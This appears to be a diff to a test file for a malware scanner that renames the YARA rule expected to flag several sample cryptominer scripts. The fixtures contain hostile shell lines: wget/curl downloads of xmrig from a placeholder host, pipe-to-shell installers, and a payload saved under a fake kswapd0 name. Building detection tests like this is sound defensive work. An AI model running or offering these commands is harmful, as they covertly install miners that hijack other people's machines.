@@ -79,7 +79,7 @@ def _miner_samples() -> dict[str, tuple[str, str]]:
         "dl/chmod_ax.sh": (
             f"#!/bin/sh\nwget -q http://{HOST}/d/xmrig-static -O /var/tmp/sysd\n"
             "chmod a+x /var/tmp/sysd\n/var/tmp/sysd -c /var/tmp/c.json &\n",
-            "yara.miner_fetch_and_run_variants",
+            "yara.miner_download_and_run",
         ),
         "dl/pipe_wallet.sh": (
             f"curl -s -L http://{HOST}/setup.sh | bash -s {w}\n",
@@ -91,7 +91,7 @@ def _miner_samples() -> dict[str, tuple[str, str]]:
         ),
         "dl/wget_sh.sh": (
             f"wget -O- http://{HOST}/xmrig/setup.sh | sh\n",
-            "yara.miner_fetch_and_run_variants",
+            "yara.miner_download_and_run",
         ),
         "dl/clone_build.sh": (
             "git clone https://git.example/perf/tools.git && cd tools && mkdir build && cd build\n"
@@ -108,7 +108,7 @@ def _miner_samples() -> dict[str, tuple[str, str]]:
             "VER=6.21.0\nARCHIVE=xmrig-$VER-linux-static-x64.tar.gz\n"
             f"curl -sLO http://{HOST}/r/$ARCHIVE\ntar -C /tmp -xf $ARCHIVE\n"
             "cd /tmp/xmrig-$VER && ./xmrig -c config.json\n",
-            "yara.miner_fetch_and_run_variants",
+            "yara.miner_download_and_run",
         ),
         "kthread/kswapd0.sh": (
             f"#!/bin/sh\ncurl -s http://{HOST}/k -o /tmp/.X25-unix/kswapd0\n"
